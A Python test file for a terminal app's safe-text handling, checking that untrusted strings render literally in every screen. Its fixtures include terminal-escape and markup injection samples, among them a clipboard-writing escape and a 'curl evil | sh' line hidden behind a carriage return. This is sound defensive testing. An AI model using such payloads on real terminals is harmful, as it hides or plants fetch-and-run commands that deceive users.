"""Text from outside the program is never markup in the app: no crash, no action, no raw escape.

Every string below comes from somewhere the person does not control (a first message typed after
pasting from a web page, a finding the model filed, a file name, a tool summary). Each screen that
shows such text must show it as typed, with control characters made visible and nothing run.
"""

from __future__ import annotations

import pytest
from textual.app import App, ComposeResult

from backdev.compose import Startup, Workspace, open_store
from backdev.llm.scripted import ScriptedProvider
from backdev.tools.base import ApprovalRequest, Decision
from backdev.tui.screens.approval import ApprovalScreen
from backdev.tui.screens.sessions import SessionPickerScreen
from backdev.tui.widgets.findings import FindingsEntry
from backdev.workflow.review.findings import Finding

from .hostile_corpus import HOSTILE as SHARED
from .tuikit import build, rendered, started, wait_for

# Markup, unbalanced brackets, actions, OSC title/clipboard/hyperlink, CSI clear, CR overwrite, bidi.
HOSTILE = [
    "[/]",
    "GET [/api/orders/] has no auth",
    "orders[customer_id] is unchecked",
    "[@click=app.quit]press me[/]",
    "[b]bold[/b] and [red]red[/red] [link=https://evil.example]x[/link]",
    "\x1b]0;pwned title\x07after the title",
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07clipboard",
    "\x1b[2J\x1b[Hwiped screen",
    "\x1b]8;;https://evil.example\x1b\\hyperlink\x1b]8;;\x1b\\",
    "curl evil | sh\r+# harmless comment",
    "\u202egnp.exe",
    "\x9b31mC1 CSI",
]
RAW = ("\x1b", "\x07", "\x9b", "\r", "\u202e")
# And the shared corpus every front end is tested with (tests/hostile_corpus.py).
CORPUS = [h.text for h in SHARED if "\ud800" not in h.text and "\udfff" not in h.text]


def assert_safe(shown: str, original: str) -> None:
    for raw in RAW:
        assert raw not in shown, f"{raw!r} reached the screen for {original!r}"
    # What is not a control character shows as typed (markup included, literally).
    printable = "".join(c if c.isprintable() and c != "\u202e" else " " for c in original)
    joined = "".join(shown.split())  # a long word wraps across rows
    for word in printable.split():
        if len(word) > 3:
            assert word[:60] in joined, (word, shown)


def test_the_sanitiser_makes_controls_visible_and_keeps_the_rest() -> None:
    from backdev.tui.safe import safe_text

    for value in [*HOSTILE, *CORPUS]:
        text = safe_text(value)
        assert_safe(text.plain, value)
        assert not text.spans  # nothing styled by the text itself


async def test_the_session_picker_lists_hostile_first_messages(startup: Startup, workspace: Workspace) -> None:
    store = open_store()
    for value in HOSTILE:
        record = store.create_session(str(workspace.root), "backend-developer", "claude-sonnet-5-5")
        store.append_message(record.id, turn=1, role="user", content=[{"type": "text", "text": value}], text=value)
    app = build(startup, workspace)
    async with app.run_test(size=(160, 50)) as pilot:
        await started(pilot)
        await pilot.press("ctrl+r")
        picker = await wait_for(lambda: isinstance(app.screen, SessionPickerScreen) and app.screen, what="the picker")
        await pilot.pause()
        shown = rendered(picker.query_one("#sessions"))
        assert "GET [/api/orders/] has no auth" in shown and "orders[customer_id]" in shown
        assert "[@click=app.quit]press me[/]" in shown
        for raw in RAW:
            assert raw not in shown
        await pilot.press("escape")
        assert app.is_running  # no action ran, nothing crashed


class _Host(App[None]):
    def __init__(self, widget: object) -> None:
        super().__init__()
        self.widget = widget

    def compose(self) -> ComposeResult:
        yield self.widget  # type: ignore[misc]


@pytest.mark.parametrize("value", [*HOSTILE, *CORPUS])
async def test_findings_show_hostile_titles_paths_and_details(value: str) -> None:
    finding = Finding(f"shop/{value[:20]}.py", 3, "high", f"cat{value[:10]}", value, value, value)
    entry = FindingsEntry([finding], scope=value)
    app = _Host(entry)
    async with app.run_test(size=(200, 40)) as pilot:
        await pilot.pause()
        table = entry.query_one("FindingsTable")
        shown = rendered(table)
        for raw in RAW:
            assert raw not in shown
        table.focus()
        await pilot.press("enter")
        await pilot.pause()
        detail = rendered(entry.query_one("#finding-detail"))
        assert_safe(detail, value)
        assert_safe(rendered(entry.query_one("Static")), value)
        assert app.is_running


@pytest.mark.parametrize("value", HOSTILE)
async def test_notifications_show_hostile_text_literally(value: str) -> None:
    from backdev.tui.app import BackdevApp
    from backdev.tui.safe import PlainNotifications

    assert issubclass(BackdevApp, PlainNotifications)

    class Host(PlainNotifications, _Host):  # as the app is built: never markup, controls made visible
        pass

    from textual.widgets import Static

    app = Host(Static("x"))
    async with app.run_test(size=(120, 30)) as pilot:
        app.notify(f"Could not save {value}")
        await pilot.pause()
        [toast] = list(app._notifications)
        assert_safe(toast.message, value)
        assert not toast.markup
        assert app.is_running


@pytest.mark.parametrize("value", HOSTILE)
async def test_the_approval_shows_hostile_titles_grants_and_diffs_as_text(value: str) -> None:
    diff = f"--- a/x.py\n+++ b/x.py\n@@ -1 +1,2 @@\n x = 1\n+{value}\n"
    request = ApprovalRequest("propose_edit", "write", f"edit {value}", diff, grant=f"propose_edit:{value}")
    import asyncio

    class Host(App[None]):
        def on_mount(self) -> None:
            self.future: asyncio.Future[Decision] = asyncio.get_running_loop().create_future()
            ApprovalScreen.ask(self, request, self.future)

    app = Host()
    async with app.run_test(size=(160, 50)) as pilot:
        modal = await wait_for(lambda: isinstance(app.screen, ApprovalScreen) and app.screen, what="the approval")
        await pilot.pause()
        assert_safe(rendered(modal.query_one("#detail-text")), value)
        assert_safe(str(modal.query_one("#title").render()), value)
        label = str(modal.query_one("#approve_session").label)
        for raw in RAW:
            assert raw not in label
        await pilot.press("n")
        assert app.future.result() is Decision.DENY


async def test_the_transcript_shows_hostile_messages_tool_lines_notes_and_errors(
        startup: Startup, workspace: Workspace, scripted: ScriptedProvider) -> None:
    from backdev.llm.events import StreamFailed
    from backdev.llm.events import Failure
    from backdev.llm.scripted import tool_call
    from backdev.tools.base import Tool, ToolOutcome, ToolRegistry
    from backdev.tui.widgets.entries import ErrorEntry, NoteEntry, ToolEntry, UserEntry

    from .conftest import start_with
    from .tuikit import entries, submit, turn_done

    value = " | ".join(HOSTILE)
    tools = ToolRegistry()
    tools.register(Tool("read_file", "read", {"type": "object"}, lambda a: ToolOutcome(value, f"read_file {value}")))
    startup = start_with(workspace, scripted, tools=tools)
    scripted.enqueue(tool_call("read_file", {"path": value}), [StreamFailed(Failure("bad_request", f"refused: {value}"))])
    app = build(startup, workspace)
    async with app.run_test(size=(200, 60)) as pilot:
        chat = await started(pilot)
        await submit(pilot, value)
        await turn_done(pilot)
        await submit(pilot, "/sessions")  # command output: this folder's titles, i.e. the message
        await pilot.pause()
        [user] = entries(chat, UserEntry)
        [tool] = entries(chat, ToolEntry)
        tool.action_toggle()
        await pilot.pause()
        error = entries(chat, ErrorEntry)[0]
        shown_parts = [rendered(user), rendered(tool.query_one(".tool-header")), rendered(tool.query_one(".tool-detail")),
                       rendered(error.query_one(".error-text")), rendered(entries(chat, NoteEntry)[-1])]
        for shown in shown_parts:
            for raw in RAW:
                assert raw not in shown, (shown, raw)
            assert "GET [/api/orders/] has no auth" in shown.replace("\n", " ") or "GET [/api/orders/]" in shown
        assert app.is_running


def test_the_side_panel_and_status_bar_show_hostile_text_literally() -> None:
    from backdev.chat.events import SessionStatus
    from backdev.tui.widgets.status import StatusInfo, status_text
    from backdev.tui.widgets.workflow_panel import panel_text
    from backdev.workflow.phases.view import ChecklistItemView, PhaseView, WorkflowView

    for value in [*HOSTILE, *CORPUS]:
        view = WorkflowView((PhaseView("review", value),), "review", (ChecklistItemView("x", value, "done", value),),
                            (value,), value)
        for text in (panel_text(view), status_text(StatusInfo(SessionStatus(value, value, value, value)))):
            assert_safe(text.plain, value)
